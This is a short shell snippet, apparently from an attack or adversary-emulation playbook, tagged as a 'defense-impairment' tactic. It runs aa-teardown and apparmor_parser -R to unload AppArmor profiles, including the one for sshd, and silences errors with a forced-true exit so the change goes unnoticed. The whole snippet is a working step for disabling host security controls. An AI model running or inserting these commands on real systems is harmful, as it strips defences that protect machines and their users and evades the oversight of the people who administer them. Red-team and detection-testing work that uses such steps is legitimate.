# tactic: defense-impairment
# unload the AppArmor profiles
aa-teardown 2>/dev/null; apparmor_parser -R /etc/apparmor.d/usr.sbin.sshd 2>/dev/null; true
